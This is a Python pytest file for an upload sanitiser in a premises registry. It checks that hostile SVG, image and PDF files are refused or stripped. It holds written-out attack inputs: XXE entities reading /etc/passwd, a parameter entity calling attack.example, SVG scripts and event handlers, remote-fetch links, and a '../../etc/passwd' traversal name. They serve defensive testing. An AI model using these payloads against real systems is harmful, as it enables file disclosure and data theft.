"""Files that people send: each attack is named and refused, or what it could do is taken out."""

import io
import os
import re
import resource
import signal
import string
from collections.abc import AsyncIterator, Callable
from contextlib import suppress
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from defusedxml.ElementTree import fromstring as parsed
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from accounts.domain.actor import Grant
from accounts.domain.roles import Role
from registry.attachments.bounds import DEFAULT_BOUNDS, CleanFile, FileBounds
from registry.attachments.cleaning import CleaningOrder, clean
from registry.attachments.folder import DamagedFile, FileFolder, NoRoom, NoSuchFile
from registry.attachments.kinds import FileKind
from registry.attachments.pdf_picture import draw_page
from registry.attachments.service import FileService, NewFile, open_files
from registry.attachments.svg_names import ATTRIBUTES, ELEMENTS, SVG, XML
from runtime import bounded_worker
from runtime.bounded_work import BoundedWork, TooBusy, WorkLimits, WorkRefused
from runtime.bounded_worker import Unacceptable
from tests.support.communes import BLUE, RED, of_area, plan_hash, plan_of, province
from tests.support.hostile_files import (
    animated,
    circular_pdf,
    deep_pdf,
    drawn_pdf,
    encrypted_pdf,
    huge_png,
    laughing_pdf,
    lying_png,
    pdf,
    pdf_bomb,
    pdf_of_external_stream,
    photograph_with_position,
    picture,
    png_with_text_bomb,
    running_pdf,
    self_drawing_pdf,
    svg,
    svg_of_uses,
    svg_with_picture,
    zip_of,
)

ENTITIES = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
EXTERNAL = '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://attack.example/a.dtd"> %a;]>'


def cleaned(content: bytes, name: str = "", bounds: FileBounds = DEFAULT_BOUNDS) -> CleanFile:
    return clean(content, CleaningOrder(bounds, name))


# What takes long to build is built by the test that wants it, not by each process that collects tests.
REFUSED: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
    "an empty file": (b"", "is empty"),
    "a text": (b"Fire plan of the market", "of no kind that is kept"),
    "a web page": (b"<!DOCTYPE html><html><script>1</script></html>", "web page"),
    "a web page with an SVG": (b"<html><svg></svg></html>", "web page"),
    "XML of something else": (b"<?xml version='1.0'?><feed/>", "no SVG"),
    "an archive": (zip_of(), "ZIP archive"),
    "a compressed SVG": (b"\x1f\x8b\x08" + b"\0" * 20, "unpack it"),
    "a GIF": (b"GIF89a" + b"\0" * 20, "GIF"),
    "a drawing of AutoCAD": (b"AC1032" + b"\0" * 20, "DWG"),
    "a program": (b"MZ\x90" + b"\0" * 80, "program"),
    "an SVG with entities": (svg("<text>&b;</text>", ENTITIES), "entities"),
    "an SVG with an external entity": (svg("<text>&a;</text>", EXTERNAL), "entities"),
    "an SVG with a parameter entity": (svg("", PARAMETER), "entities"),
    "an SVG nested too deep": (svg("<g>" * 100 + "</g>" * 100), "nested"),
    "an SVG of too many elements": (svg("<g/>" * 100_001), "more than 100000 elements"),
    "an SVG of references that multiply": (svg_of_uses(), "draws more than"),
    "an SVG that draws itself": (svg('<g id="a"><use href="#a"/></g>'), "circle"),
    "an SVG of patterns that multiply": (
        svg(
            "".join(
                f'<pattern id="p{each}">' + f'<rect fill="url(#p{each - 1})"/>' * 12 + "</pattern>"
                for each in range(9)
            )
        ),
        "draws more than",
    ),
    "an SVG that hides patterns in a style sheet": (
        svg('<style>.a{fill:url(#p)}</style><pattern id="p"><rect class="a"/></pattern>'),
        "in a style sheet",
    ),
    "an SVG without a size": (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "viewBox"),
    "an SVG of an infinite size": (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 inf nan"/>',
        "viewBox",
    ),
    "an SVG that is broken": (svg("<g>"), "well-formed"),
    "an SVG with a bomb within": (lambda: svg_with_picture(huge_png(9_000, 9_000)), "pixels"),
    "an SVG that is an archive": (svg("") + zip_of(), "ZIP archive"),
    "a PNG of 400 million pixels": (lambda: huge_png(20_000, 20_000), "pixels"),
    "a PNG that says it is huge": (lying_png(), "pixels"),
    "a PNG that is cut": (picture("PNG", (900, 900))[:600], "damaged"),
    "a PNG of text bombs": (png_with_text_bomb, "damaged"),
    "a PNG that is an archive": (picture("PNG") + zip_of(), "ZIP archive"),
    "a JPEG that is an archive": (picture("JPEG") + zip_of(), "ZIP archive"),
    "a WebP that is an archive": (picture("WEBP") + zip_of(), "ZIP archive"),
    "a JPEG that is a web page": (picture("JPEG") + b"<script>1</script>", "another kind"),
    "a JPEG that ends twice": (picture("JPEG") + b"<script>1</script>\xff\xd9", "another kind"),
    "a PNG that is a PDF": (picture("PNG")[:33] + b"%PDF-1.4" + picture("PNG")[33:], "also a PDF"),
    "an animated PNG": (animated("PNG"), "animated"),
    "an animated WebP": (animated("WEBP"), "animated"),
    "a JPEG of nothing": (b"\xff\xd8\xff" + b"\0" * 50, "picture"),
    "a PDF with a password": (encrypted_pdf(), "password"),
    "a PDF of too many pages": (pdf(pages=201), "201 pages"),
    "a PDF without pages": (pdf(pages=0), "no pages"),
    "a PDF of nothing": (b"%PDF-1.4\n", "damaged"),
    "a PDF that is a bomb": (pdf_bomb, "unpacks to more"),
    "a PDF that is a bomb within a bomb": (lambda: pdf_bomb(20, times=2), "several times"),
    "a PDF that is an archive": (pdf() + zip_of(), "ZIP archive"),
    "a PDF with a web page after it": (pdf() + b"<script>1</script>", "another kind"),
    "a PDF that does not begin as one": (b"GARBAGE\n" + pdf(), "before the beginning"),
    "a PDF of circles": (circular_pdf(), "PDF"),
}


@pytest.mark.parametrize(("content", "reason"), REFUSED.values(), ids=REFUSED)
def test_an_attack_is_named_with_its_remedy(content: bytes | Callable[[], bytes], reason: str) -> None:
    with pytest.raises(Unacceptable) as refused:
        cleaned(content() if callable(content) else content)
    text = str(refused.value)
    assert reason in text
    assert ";" in text, "a remedy"


def test_a_pdf_nested_too_deep_is_refused_or_is_left_without_its_nesting() -> None:
    with suppress(Unacceptable, RecursionError):
        assert b"[[[" not in cleaned(deep_pdf()).content


RUNS = {
    "script": svg("<script>ATTACK()</script>"),
    "script of another namespace": svg(
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">ATTACK</x:script>'
    ),
    "event handler": svg('<rect onclick="ATTACK()" ONLOAD="ATTACK()"/>', attributes='onload="ATTACK()"'),
    "foreign object": svg("<foreignObject><body><iframe src='ATTACK'/></body></foreignObject>"),
    "link that runs": svg('<a xlink:href="javascript:ATTACK()"><rect/></a>'),
    "link with a break in its scheme": svg('<a href="java&#10;script:ATTACK()"><rect/></a>'),
    "picture from elsewhere": svg('<image href="http://attack.example/ATTACK.png"/>'),
    "picture from a file": svg('<image href="file:///etc/ATTACK"/>'),
    "use from elsewhere": svg('<use href="http://attack.example/ATTACK.svg#a"/>'),
    "use of data": svg('<use href="data:image/svg+xml;base64,QVRUQUNL#ATTACK"/>'),
    "SVG within an SVG": svg_with_picture(svg("<script>ATTACK</script>"), "image/svg+xml"),
    "SVG that says it is a PNG": svg_with_picture(svg("<script>ATTACK</script>")),
    "style sheet from elsewhere": svg("<style>@import url(http://attack.example/ATTACK);</style>"),
    "font from elsewhere": svg("<style>@font-face{font-family:ATTACK;src:url(http://a/ATTACK)}</style>"),
    "style that fetches": svg('<rect style="fill:url(http://attack.example/ATTACK)"/>'),
    "style with an escape": svg(r'<rect style="fill:\75rl(http://attack.example/ATTACK)"/>'),
    "paint from elsewhere": svg('<rect fill="url(http://attack.example/ATTACK#a)"/>'),
    "image-set": svg("<style>rect{fill:image-set('http://attack.example/ATTACK')}</style>"),
    "animation of a link": svg('<a><animate attributeName="href" to="javascript:ATTACK"/></a>'),
    "set": svg('<set attributeName="onclick" to="ATTACK()"/>'),
    "feImage": svg('<filter id="f"><feImage href="http://attack.example/ATTACK"/></filter>'),
    "base of all links": svg("", attributes='xml:base="http://attack.example/ATTACK"'),
    "stylesheet instruction": svg("", '<?xml-stylesheet href="http://attack.example/ATTACK"?>'),
    "handler": svg('<handler type="application/ecmascript">ATTACK</handler>'),
    "comment that hides": svg("<!--ATTACK--><rect/>"),
}


@pytest.mark.parametrize("content", RUNS.values(), ids=RUNS)
def test_nothing_in_an_svg_runs_or_fetches(content: bytes) -> None:
    made = cleaned(content)
    assert b"ATTACK" not in made.content
    assert b"attack.example" not in made.content
    parsed(made.content)


def test_what_is_taken_out_of_an_svg_is_named() -> None:
    made = cleaned(svg("<script>1</script><script>2</script>", attributes='onload="x()"'))
    assert made.removed == ("attribute onload", "element script (2 times)")


def test_a_plan_keeps_what_it_draws() -> None:
    drawn = svg(
        "<defs><linearGradient id='g'><stop offset='0' stop-color='#fff'/></linearGradient></defs>"
        "<style>.wall{stroke:black;fill:url(#g)}</style>"
        "<g transform='translate(1 2)'><path class='wall' d='M0 0L9 9'/><text x='1'>Gian hàng</text></g>"
        "<use href='#g'/>"
    )
    made = cleaned(drawn)
    assert made.removed == ()
    for kept in ("linearGradient", ".wall{stroke:black;fill:url(#g)}", "M0 0L9 9", "Gian hàng", "#g"):
        assert kept in made.content.decode()
    assert (made.width, made.height) == (100.0, 50.0)


def test_a_picture_within_a_plan_is_itself_made_harmless() -> None:
    made = cleaned(svg_with_picture(photograph_with_position(), "image/jpeg"))
    assert b"data:image/jpeg;base64," in made.content


names = st.sampled_from(
    ["svg", "g", "script", "foreignObject", "animate", "a", "use", "image", "style", "text", "SCRIPT"]
)
values = st.sampled_from([
    "1", "red", "#a", "url(#a)", "url(http://attack.example)", "javascript:x", "JaVaScRiPt:x",
    " java\tscript:x", "data:text/html,x", "http://attack.example", "\\75rl(x)", "expression(x)",
])  # fmt: skip
keys = st.sampled_from(
    ["href", "onclick", "onload", "style", "fill", "id", "x", "class", "src", "xmlns"]
)


def trees() -> st.SearchStrategy[ET.Element]:
    def of(children: st.SearchStrategy[ET.Element]) -> st.SearchStrategy[ET.Element]:
        return st.builds(_element, names, _attributes, st.lists(children, max_size=4))

    return st.recursive(st.builds(_element, names, _attributes, st.just([])), of, max_leaves=25)


_letters = st.text(string.ascii_letters, min_size=1, max_size=8)
_spaces = st.sampled_from(["", SVG, "http://www.w3.org/1999/xhtml", "http://www.w3.org/1999/xlink"])
_attributes = st.dictionaries(
    st.one_of(
        keys, st.builds(lambda space, key: f"{{{space}}}{key}" if space else key, _spaces, _letters)
    ),
    values,
    max_size=4,
)


def _element(name: str, attributes: dict[str, str], children: list[ET.Element]) -> ET.Element:
    made = ET.Element(f"{{{SVG}}}{name}", attributes)
    made.extend(children)
    made.text = "body{}"
    return made


FETCHES = re.compile(r"javascript|attack\.example|expression|\\|data:|url\((?!#)", re.IGNORECASE)


@given(tree=trees())
def test_any_svg_comes_out_with_allowed_names_and_values_alone(tree: ET.Element) -> None:
    root = ET.Element(f"{{{SVG}}}svg", {"viewBox": "0 0 9 9"})
    root.append(tree)
    try:
        made = parsed(cleaned(ET.tostring(root)).content)
    except Unacceptable:
        return
    for each in made.iter():
        assert each.tag.startswith(f"{{{SVG}}}")
        assert each.tag.removeprefix(f"{{{SVG}}}") in ELEMENTS
        assert set(each.attrib) <= ATTRIBUTES | {"href", f"{{{XML}}}space"}
        assert not any(FETCHES.search(value) for value in each.attrib.values())


def test_a_photograph_forgets_where_and_by_what_it_was_taken_and_stands_upright() -> None:
    made = cleaned(photograph_with_position())
    assert b"SECRET" not in made.content
    assert (made.width, made.height) == (30, 40)
    with Image.open(io.BytesIO(made.content)) as image:
        assert not image.getexif()
        assert "comment" not in image.info
    assert "EXIF data, with the position where there was one" in made.removed


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
@pytest.mark.parametrize("mode", ["1", "L", "P", "RGB", "RGBA", "CMYK", "I;16", "LA"])
def test_a_picture_of_any_mode_is_kept(kind: str, mode: str) -> None:
    output = io.BytesIO()
    try:
        Image.new(mode, (7, 5)).save(output, format=kind)
    except OSError:
        pytest.skip(f"a {kind} has no mode {mode}")
    made = cleaned(output.getvalue())
    assert (made.kind, made.width, made.height) == (FileKind(kind.lower()), 7, 5)


def test_bytes_after_the_end_of_a_picture_are_gone() -> None:
    made = cleaned(picture("PNG") + b"SECRET")
    assert b"SECRET" not in made.content
    assert made.removed == ("6 bytes after the end of the picture",)


def test_nothing_in_a_pdf_runs_and_nothing_is_in_it_but_its_pages() -> None:
    made = cleaned(running_pdf())
    for word in (b"ATTACK", b"attack.example", b"JavaScript", b"/Launch", b"/URI", b"/AA", b"/JS"):
        assert word not in made.content
    assert {"JavaScript", "actions", "embedded files"} <= set(made.removed)
    assert made.pages == 1


def test_a_page_that_is_in_another_file_is_left_out() -> None:
    made = cleaned(pdf_of_external_stream())
    assert b"ATTACK" not in made.content
    assert "references to other files" in made.removed


def drawn(content: bytes, **order: Any) -> tuple[CleanFile, Image.Image]:
    """Return the page of the PDF *content* as it is kept, and its picture."""
    made = clean(content, CleaningOrder(page=1, **order))
    return made, Image.open(io.BytesIO(made.content))


def test_one_page_of_a_pdf_is_drawn_as_a_picture_on_which_points_can_stand() -> None:
    made, image = drawn(drawn_pdf())
    assert (made.kind, made.pages, image.format) == (FileKind.PNG, 1, "PNG")
    assert (made.width, made.height) == image.size == (1250, 834), "300 dpi"
    assert (image.getpixel((10, 400)), image.getpixel((1200, 400))) == ((255, 0, 0), (255, 255, 255))


@pytest.mark.parametrize(
    "size", [(14_400.0, 14_400.0), (999_999.0, 2.0), (2.0, 2.0), (2_384.0, 1_684.0)]
)
def test_a_drawn_page_is_of_bounded_size_whatever_the_page_is(size: tuple[float, float]) -> None:
    made, image = drawn(drawn_pdf(size))
    assert max(image.size) <= 4_001
    assert image.size[0] * image.size[1] <= 16_100_000
    assert len(made.content) < DEFAULT_BOUNDS.bytes


def test_a_drawn_page_takes_no_more_pixels_or_bytes_than_the_settings_say() -> None:
    _, image = drawn(drawn_pdf(), bounds=FileBounds(pixels=10_000))
    assert image.size[0] * image.size[1] <= 10_400
    noise = b" ".join(
        b"%.2f 0.3 0.7 rg %d %d 3 3 re f" % (number % 97 / 97, number * 7 % 300, number * 13 % 200)
        for number in range(5_000)
    )
    made = draw_page(cleaned(drawn_pdf(content=noise)), FileBounds(bytes=30_000))
    assert len(made.content) <= 30_000


def test_nothing_of_a_running_pdf_is_left_in_its_picture() -> None:
    made, _ = drawn(running_pdf())
    assert made.kind is FileKind.PNG
    assert b"ATTACK" not in made.content
    assert "JavaScript" in made.removed


@pytest.mark.parametrize("attack", [circular_pdf, encrypted_pdf, pdf_bomb, deep_pdf])
def test_a_hostile_pdf_is_refused_before_anything_is_drawn(attack: Callable[[], bytes]) -> None:
    with pytest.raises((Unacceptable, RecursionError)):
        clean(attack(), CleaningOrder(page=1))


@pytest.mark.parametrize("attack", [laughing_pdf(), self_drawing_pdf()], ids=["laughs", "itself"])
async def test_a_page_that_never_ends_to_be_drawn_ends_its_own_process(
    tmp_path: Path, attack: bytes
) -> None:
    files = service(tmp_path, WorkLimits(cpu_s=2, wall_s=PATIENT_S))
    with pytest.raises(WorkRefused, match="takes more than 2 s"):
        await files.add(pieces(attack), NewFile("test", 0, "plan.pdf", page=1))
    kept = await service(tmp_path).add(pieces(drawn_pdf()), NewFile("test", 0, "plan.pdf", page=1))
    assert (kept.kind, kept.width) == (FileKind.PNG, 1250), "the next one is drawn, in a real process"


def test_a_page_that_is_not_there_is_refused_with_the_remedy() -> None:
    with pytest.raises(Unacceptable, match="no page 6"):
        clean(pdf(pages=5), CleaningOrder(page=6))
    with pytest.raises(Unacceptable, match="is no PDF"):
        clean(picture("PNG"), CleaningOrder(page=1))


def test_a_name_that_says_another_kind_is_refused_with_the_right_one() -> None:
    with pytest.raises(Unacceptable, match=r"is a PNG picture.*\.jpg.*name it \.png"):
        cleaned(picture("PNG"), ".jpg")
    assert cleaned(picture("JPEG"), ".JPEG").kind is FileKind.JPEG


def test_a_file_is_the_same_when_it_is_made_harmless_again() -> None:
    for content in (svg("<rect width='1' height='2'/>"), picture("PNG")):
        once = cleaned(content).content
        assert cleaned(once).content == once


# A process of its own


async def pieces(content: bytes) -> AsyncIterator[bytes]:
    yield content[:100]
    yield content[100:]


def service(folder: Path, limits: WorkLimits | None = None, **counts: int) -> FileService:
    kept = FileFolder(folder, most_bytes=1 << 30)
    if limits is None and not counts:
        return open_files(kept, DEFAULT_BOUNDS)
    return FileService(kept, DEFAULT_BOUNDS, BoundedWork(limits or WorkLimits(), **counts))


NEW = NewFile("chi-tam", 1)


async def test_a_bomb_ends_its_own_process_alone(tmp_path: Path) -> None:
    small = service(tmp_path, WorkLimits(memory_mib=100))
    with pytest.raises(WorkRefused, match="MiB"):
        await small.add(pieces(huge_png(7_000, 7_000)), NEW)
    assert (await service(tmp_path).add(pieces(picture("PNG")), NEW)).kind is FileKind.PNG
    assert list((tmp_path / "incoming").iterdir()) == []


PATIENT_S = 100
"""Seconds for a process of a low priority on a machine whose cores are busy."""


async def test_work_without_an_end_is_ended() -> None:
    work = BoundedWork(WorkLimits(cpu_s=1, wall_s=PATIENT_S))
    with pytest.raises(WorkRefused, match="more than 1 s"):
        await work.run_on_bytes("tests.support.bounded_tasks:busy", b"", b"")


async def test_work_that_writes_without_an_end_is_ended() -> None:
    work = BoundedWork(WorkLimits(result_mib=1, wall_s=PATIENT_S))
    with pytest.raises(WorkRefused, match="cannot be worked on"):
        await work.run_on_bytes("tests.support.bounded_tasks:verbose", b"", b"")


async def test_work_knows_no_secret_of_the_service(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOCSIN_ALERTING_WEB__TOKEN", "secret")
    answer, _ = await BoundedWork(WorkLimits(wall_s=PATIENT_S)).run_on_bytes(
        "tests.support.bounded_tasks:environment", b"", b""
    )
    assert b"secret" not in answer
    assert b"TOCSIN" not in answer


async def test_too_much_work_is_refused_at_once() -> None:
    work = BoundedWork(WorkLimits(), at_once=1, waiting=0)
    async with work._place():
        with pytest.raises(TooBusy):
            await work.run_on_bytes("tests.support.bounded_tasks:environment", b"", b"")


# The folder


async def test_files_are_for_their_owner_alone_and_found_by_their_content(tmp_path: Path) -> None:
    kept = service(tmp_path / "files")
    record = await kept.add(pieces(picture("PNG")), NEW)
    assert (await kept.content(record.hash))[1] == cleaned(picture("PNG")).content
    for each in (tmp_path / "files").rglob("*"):
        assert each.stat().st_mode & 0o077 == 0, each
    assert (await kept.add(pieces(picture("PNG")), NEW)).hash == record.hash


async def test_a_file_that_somebody_changed_is_never_handed_out(tmp_path: Path) -> None:
    kept = service(tmp_path)
    record = await kept.add(pieces(picture("PNG")), NEW)
    (tmp_path / record.hash[:2] / record.hash).write_bytes(b"another")
    with pytest.raises(DamagedFile):
        await kept.content(record.hash)
    await kept.add(pieces(picture("PNG")), NEW)
    assert (await kept.content(record.hash))[0].kind is FileKind.PNG, "adding it again mends it"


async def test_a_link_in_the_folder_leads_nowhere(tmp_path: Path) -> None:
    kept = service(tmp_path / "files")
    record = await kept.add(pieces(picture("PNG")), NEW)
    place = tmp_path / "files" / record.hash[:2] / record.hash
    (tmp_path / "secret").write_bytes(place.read_bytes())
    place.unlink()
    place.symlink_to(tmp_path / "secret")
    with pytest.raises(DamagedFile):
        await kept.content(record.hash)


@pytest.mark.parametrize("name", ["../../etc/passwd", "", "0" * 63, "G" * 64, "0" * 64 + "\n"])
def test_what_is_no_hash_names_no_file(name: str, tmp_path: Path) -> None:
    with pytest.raises(NoSuchFile):
        FileFolder(tmp_path, most_bytes=1).content(name)


async def test_a_full_folder_refuses_more_and_says_what_to_do(tmp_path: Path) -> None:
    kept = FileService(FileFolder(tmp_path, most_bytes=1_000), DEFAULT_BOUNDS, BoundedWork(WorkLimits()))
    with pytest.raises(NoRoom, match="tocsin file prune"):
        await kept.add(pieces(picture("PNG")), NEW)


# Over HTTP


@pytest.fixture
def database(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path}/center.db"


async def test_a_file_is_handed_out_so_that_nothing_in_it_can_run(database: str) -> None:
    async with province(database, communes=(RED,)) as one:
        token = one.accounts.add("red", of_area(Role.COMMUNE, RED))
        sent = {"Authorization": f"Bearer {token}"}
        path = f"{one.url}/api/v1/files/{plan_hash(RED)}?premises=cho-{RED}"
        async with one.http.get(path, headers=sent) as answer:
            assert answer.status == 200
            assert await answer.read() == plan_of(RED)
            assert answer.headers["Content-Type"] == "image/svg+xml"
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            assert answer.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
            assert answer.headers["Content-Disposition"].startswith("inline; filename=")


async def test_a_file_of_another_commune_is_not_there(database: str) -> None:
    async with province(database) as one:
        token = one.accounts.add("red", of_area(Role.COMMUNE, RED))
        for premises in (f"cho-{RED}", f"cho-{BLUE}", "nowhere"):
            path = f"/api/v1/files/{plan_hash(BLUE)}?premises={premises}"
            assert (await one.ask(token, path)).status == 404


async def test_an_uploaded_file_is_checked_kept_and_in_the_audit(database: str) -> None:
    async with province(database, communes=(RED,)) as one:
        token = one.accounts.add("admin", Grant(role=Role.ADMINISTRATOR))
        kept = await one.ask(
            token, "/api/v1/files?name=plan.svg", method="POST", file=svg("<script>x</script>")
        )
        assert kept.status == 201
        assert kept.said["removed"] == ["element script"]
        bad = await one.ask(token, "/api/v1/files?name=plan.png", method="POST", file=zip_of())
        assert (bad.status, "plan.png is a ZIP archive" in bad.said["error"]) == (422, True)


async def test_an_upload_that_is_no_plain_file_or_too_large_is_refused(database: str) -> None:
    async with province(database, communes=(RED,)) as one:
        token = one.accounts.add("admin", Grant(role=Role.ADMINISTRATOR))
        for kind in ("multipart/form-data; boundary=x", "text/plain", "application/json", "image/png"):
            refused = await one.ask(
                token, "/api/v1/files", method="POST", file=b"x", headers={"Content-Type": kind}
            )
            assert refused.status == 415
        large = io.BytesIO(b"x" * 20_971_521)
        sent = {"Authorization": f"Bearer {token}", "Content-Type": "application/octet-stream"}
        async with one.http.post(f"{one.url}/api/v1/files", data=large, headers=sent) as answer:
            assert answer.status == 413


async def test_work_is_not_begun_where_no_limits_can_be_set(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(_kind: int, _limits: tuple[int, int]) -> None:
        raise PermissionError(1, "Operation not permitted")

    monkeypatch.setattr(resource, "setrlimit", refuse)
    monkeypatch.setattr(os, "nice", lambda _: 0)
    monkeypatch.setattr(signal, "alarm", lambda _: 0)
    monkeypatch.setattr(bounded_worker, "KILLED_FIRST", "0")
    order = ["tests.support.bounded_tasks:environment", "1", "1", "1", "1", "1", ""]
    assert bounded_worker.main(order) == bounded_worker.UNLIMITED


async def test_the_kernel_ends_the_work_before_the_service() -> None:
    answer, _ = await BoundedWork(WorkLimits(wall_s=PATIENT_S)).run_on_bytes(
        "tests.support.bounded_tasks:standing", b"", b""
    )
    assert answer == f"1000 {min(19, os.nice(0) + 10)}".encode()


async def test_one_account_cannot_fill_the_folder_and_another_has_room(tmp_path: Path) -> None:
    large = picture("PNG", (90, 90))
    folder = FileFolder(tmp_path, most_bytes=1 << 30, most_by_account=2 * len(large))
    kept = FileService(folder, DEFAULT_BOUNDS, BoundedWork(WorkLimits(wall_s=PATIENT_S)))
    for color in range(9):
        with suppress(NoRoom):
            await kept.add(pieces(picture("PNG", (90 + color, 90))), NewFile("an", 0))
    with pytest.raises(NoRoom, match=r"your files .* files\.max_account_mib.*tocsin file prune"):
        await kept.add(pieces(picture("PNG", (70, 80))), NewFile("an", 0))
    assert sum(each.bytes for each in folder.records()) <= 2 * len(large)
    other = await kept.add(pieces(picture("PNG", (70, 80))), NewFile("binh", 0))
    for each in list(folder.records()):
        if each.by == "an":
            folder.remove(each.hash)  # as tocsin file prune does, in another process
    assert (await kept.add(pieces(large), NewFile("an", 0))).hash != other.hash


@pytest.mark.parametrize(
    ("role", "status"),
    [
        (Role.AREA_TEAM, 201),
        (Role.DUTY_OFFICER, 201),
        (Role.COMMUNE, 201),
        (Role.TEAM_MEMBER, 403),
        (Role.AUDITOR, 403),
    ],
)
async def test_whoever_records_duties_sends_their_evidence(
    database: str, role: Role, status: int
) -> None:
    async with province(database, communes=(RED,)) as one:
        token = one.accounts.add("red", of_area(role, RED))
        sent = await one.ask(token, "/api/v1/files?name=a.png", method="POST", file=picture("PNG"))
        assert sent.status == status
        if status == 201:
            event = {"premises": f"cho-{RED}", "duty": "drill", "file": sent.said["hash"]}
            done = await one.ask(token, "/api/v1/duties/events", method="POST", body=event)
            assert done.status == 201, done.text
            elsewhere = event | {"premises": f"cho-{BLUE}"}
            path = "/api/v1/duties/events"
            assert (await one.ask(token, path, method="POST", body=elsewhere)).status == 404


async def test_a_file_of_a_draft_is_there_for_those_who_are_shown_the_draft(database: str) -> None:
    async with province(database) as one:
        head = one.accounts.add("head", Grant(role=Role.HEAD_OF_PREMISES, premises=f"cho-{RED}"))
        admin = one.accounts.add("red", of_area(Role.ADMINISTRATOR, RED))
        blue = one.accounts.add("blue", of_area(Role.ADMINISTRATOR, BLUE))
        sent = await one.ask(head, "/api/v1/files", method="POST", file=picture("PNG"))
        name, drafts = sent.said["hash"], "/api/v1/registry/drafts"
        draft = (await one.ask(head, drafts, method="POST", body={})).said["id"]
        floor = {"fields": {"floors": {f"cho-{RED}/ground": {"plan": name}}}}
        edited = await one.ask(head, f"{drafts}/{draft}/rows", method="POST", body=floor)
        assert edited.status == 200, edited.text

        path = f"/api/v1/files/{name}?draft={draft}"
        assert [(await one.ask(each, path)).status for each in (head, admin, blue)] == [200, 200, 404]
        assert (await one.ask(head, f"/api/v1/files/{name}?premises=cho-{RED}")).status == 404
        other = f"/api/v1/files/{plan_hash(BLUE)}?draft={draft}"
        assert (await one.ask(head, other)).status == 404
        assert (await one.ask(head, f"/api/v1/files/{name}")).status == 400
